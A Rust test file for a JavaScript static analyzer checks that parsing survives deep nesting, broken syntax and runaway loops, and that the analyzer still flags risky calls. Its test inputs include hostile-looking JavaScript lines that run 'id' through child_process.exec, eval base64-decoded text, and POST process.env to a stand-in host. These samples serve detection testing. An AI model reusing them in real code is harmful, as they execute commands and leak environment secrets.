//! Input that is made to break parsers.

use std::time::Duration;

use foretaste_javascript::observe;
use foretaste_model::facts::{ParseOutcome, ProblemKind};
use foretaste_model::{Limits, Stopwatch};
use proptest::prelude::*;

/// Prefix, repeated opening, middle, repeated closing, suffix.
const SHAPES: &[(&str, &str, &str, &str, &str)] = &[
    ("", "(", "1", ")", ""),
    ("x=", "[", "", "]", ""),
    ("x=", "{a:", "1", "}", ""),
    ("", "f(", "", ")", ""),
    ("", "{", "", "}", ""),
    ("x=", "`${", "1", "}`", ""),
    ("x=", "- ", "1", "", ""),
    ("x=", "!", "1", "", ""),
    ("x=", "~", "1", "", ""),
    ("x=", "typeof ", "1", "", ""),
    ("x=", "void ", "1", "", ""),
    ("x=", "await ", "1", "", ""),
    ("x=", "new ", "A", "", ""),
    ("x=", "a=>", "1", "", ""),
    ("x=", "(a)=>(", "1", ")", ""),
    ("x=", "a=>{return ", "1", "}", ""),
    ("x=", "async a=>", "1", "", ""),
    ("x=", "a?b:", "c", "", ""),
    ("x=", "a?", "b", ":c", ""),
    ("x=", "a=", "1", "", ""),
    ("x=", "a**", "1", "", ""),
    ("x=1", "+1", "", "", ""),
    ("x=1", "&&1", "", "", ""),
    ("x=1", ",1", "", "", ""),
    ("x=a", ".b", "", "", ""),
    ("x=a", ".b()", "", "", ""),
    ("x=a", "?.b", "", "", ""),
    ("x=a", "[0]", "", "", ""),
    ("x=a", "()", "", "", ""),
    ("x=a", "``", "", "", ""),
    ("", "if(a)", "b", "", ""),
    ("", "if(a){}else ", "b", "", ""),
    ("", "if(a)b;else ", "c", "", ""),
    ("", "for(;;)", "b", "", ""),
    ("", "while(a)", "b", "", ""),
    ("", "do ", "b", ";while(a)", ""),
    ("", "a:", "b", "", ""),
    ("", "with(a)", "b", "", ""),
    ("", "function f(){", "", "}", ""),
    ("x=", "function(){return ", "1", "}", ""),
    ("x=", "class{a(){return ", "1", "}}", ""),
    ("x=", "class extends ", "A", "{}", ""),
    ("", "switch(a){case 1:", "", "}", ""),
    ("", "try{", "", "}catch{}", ""),
    ("var ", "[", "a", "]", "=b"),
    ("var ", "{a:", "b", "}", "=c"),
    ("x=", "<a>", "", "</a>", ""),
    ("x=", "<a b={", "1", "}/>", ""),
    ("let x:", "A<", "B", ">", ""),
    ("let x:", "[", "A", "]", ""),
    ("let x:", "keyof ", "A", "", ""),
    ("type X=A", "|B", "", "", ""),
    ("type X=", "A extends B?C:", "D", "", ""),
    ("x=/", "(", "a", ")", "/"),
    ("x=", "import(", "'a'", ")", ""),
    ("x=", "...[", "", "]", ""),
];

#[test]
fn nesting_never_brings_the_process_down() {
    nest(&[300, 3_000, 15_000]);
}

#[test]
#[ignore = "takes minutes without optimisation: run it with --release"]
fn very_deep_nesting_never_brings_the_process_down() {
    nest(&[100_000]);
}

fn nest(depths: &[usize]) {
    let limits = Limits::default();
    for (index, (prefix, open, middle, close, suffix)) in SHAPES.iter().enumerate() {
        let path = if prefix.starts_with("let x:") || prefix.starts_with("type") {
            "a.ts"
        } else {
            "a.js"
        };
        for levels in depths.iter().copied() {
            let code = format!(
                "{prefix}{}{middle}{}{suffix}",
                open.repeat(levels),
                close.repeat(levels)
            );
            let one = Stopwatch::start();
            let facts = observe(path, &code, &limits);
            assert!(
                one.elapsed() < Duration::from_secs(10),
                "{index} {open} x{levels}: {:?}",
                one.elapsed()
            );
            if levels == 300 && facts.outcome != ParseOutcome::Parsed {
                assert!(!facts.problems.is_empty(), "{open}");
            }
            // unclosed and broken variants
            if levels == 3_000 {
                observe(path, &format!("{prefix}{}", open.repeat(levels)), &limits);
                observe(path, &close.repeat(levels), &limits);
            }
        }
    }
}

#[test]
fn what_is_too_deep_is_said_and_still_read() {
    let code = format!(
        "{}1{}; require('child_process').exec('id')",
        "(".repeat(100_000),
        ")".repeat(100_000)
    );
    let facts = observe("a.js", &code, &Limits::default());
    assert_eq!(facts.outcome, ParseOutcome::Fallback);
    assert!(
        facts
            .problems
            .iter()
            .any(|p| p.kind == ProblemKind::TooDeep)
    );
    assert!(
        facts.uses.iter().any(|u| &*u.api == "child_process.exec"),
        "{:?}",
        facts.uses
    );
}

#[test]
fn broken_files_are_read_as_far_as_they_go() {
    for (code, api) in [
        (
            "const cp = require('child_process'); cp.exec('id'); )))) let let",
            "child_process.exec",
        ),
        (
            "import fs from 'fs'; fs.writeFileSync('a', 'b'); if (",
            "fs.writeFileSync",
        ),
        (
            "const {exec: run} = require('child_process'); run('id'); @@@ ~~ {",
            "child_process.exec",
        ),
        (
            "/* @flow */ opaque type A: B = C; declare opaque type D; require('child_process').exec('id')",
            "child_process.exec",
        ),
        ("eval(atob('aW5lcnQ=')); <<<<<<< HEAD", "eval"),
    ] {
        let facts = observe("a.js", code, &Limits::default());
        assert_eq!(facts.outcome, ParseOutcome::Fallback, "{code}");
        assert!(
            facts.problems.iter().any(|p| p.kind == ProblemKind::Syntax),
            "{code}"
        );
        assert!(
            facts.uses.iter().any(|u| &*u.api == api),
            "{code}: {:?}",
            facts.uses
        );
    }
    let flows = observe(
        "a.js",
        "fetch('https://c.invalid', {body: JSON.stringify(process.env)}); )))",
        &Limits::default(),
    )
    .flows;
    assert!(flows.iter().any(|f| f.steps.len() == 3), "{flows:?}");
}

#[test]
fn loops_and_recursion_in_data_end() {
    for code in [
        "let a = 'x'; for (;;) { a = a + a; a += 'y'; a = [a, a].join(a) } eval(a)",
        "function f(x) { return f(f(x + 'a')) } fetch(f(process.env))",
        "const o = {}; o.o = o; o.e = process.env; fetch('https://c.invalid', {body: o})",
        "let s = 'a'; s = s.repeat(60000); s = s + s + s + s; s = s + s + s + s; s = s + s + s + s + s; f(s)",
        "const a = []; a.push(a); a[a] = a; f(a.map(x => x.concat(a)))",
        "class A extends A { constructor() { super(new A(this)) } } new A(A)",
        "var p = new Promise(r => p.then(r)); p.then(p)",
    ] {
        let started = Stopwatch::start();
        observe("a.js", code, &Limits::default());
        assert!(started.elapsed() < Duration::from_secs(5), "{code}");
    }
}

#[test]
fn the_same_text_gives_the_same_facts() {
    let code = "const {exec} = require('child_process'); const a = {x: process.env, y: exec, z: () => fetch(u, {body: a})};
        for (const k in a) { a[k](a.x) } eval(atob(q)); class B { m() { this.m(); return new B(a) } } new B().m()";
    let first = observe("a.js", code, &Limits::default());
    for _ in 0..5 {
        assert_eq!(observe("a.js", code, &Limits::default()), first);
    }
}

fn token() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "eval",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "'a'",
        "\"b",
        "`",
        "${",
        "/",
        "*",
        "//",
        "\n",
        ";",
        ",",
        "=",
        "=>",
        "require",
        "process.env",
        ".",
        "x",
        "y",
        "function ",
        "class ",
        "const ",
        "async ",
        "await ",
        "return ",
        "new ",
        "...",
        "?",
        ":",
        "+",
        "fetch",
        "1",
        "0x1F",
        "<a>",
        "</a>",
        "import ",
        "export ",
        "from ",
        "é",
        "\u{1F600}",
        "\\u0041",
        "#p",
        "@d",
        "JSON.stringify",
        "Buffer.from",
        ",'base64'",
        ".then",
        ".join('')",
        ".split('')",
        "this",
        "super",
        "<!--",
        "-->",
    ])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn nothing_panics(tokens in prop::collection::vec(token(), 0..60), path in prop::sample::select(vec!["a.js", "a.ts", "a.tsx", "a.mjs", "a.cjs", "a.d.ts"])) {
        let code: String = tokens.concat();
        let facts = observe(path, &code, &Limits::default());
        prop_assert!(facts.problems.iter().all(|p| p.kind != ProblemKind::ParserDied), "{code:?}");
    }

    #[test]
    fn any_text_is_survived(code in "\\PC{0,200}") {
        let facts = observe("a.js", &code, &Limits::default());
        prop_assert!(facts.problems.iter().all(|p| p.kind != ProblemKind::ParserDied));
    }
}

#[test]
fn webs_of_calls_are_bounded() {
    use std::fmt::Write as _;
    let mut code = String::from("const o = {};");
    for i in 0..400 {
        let _ = writeln!(
            code,
            "function f{i}(a, b, c) {{ o.p{i} = {{a, o, x: process.env}}; fetch(a, {{body: b}}); eval(c); b(a, c); c(o); \
             return f{}(b, c, o) || f{}(c, a, x => f{i}(x, o, a)) }}",
            (i * 7 + 1) % 400,
            (i * 13 + 5) % 400,
        );
    }
    for i in 0..2_000 {
        let _ = write!(
            code,
            "f{}(o, {{o, e: process.env}}, o.p{});",
            i % 400,
            i % 397
        );
    }
    let started = Stopwatch::start();
    observe("a.js", &code, &Limits::default());
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
}
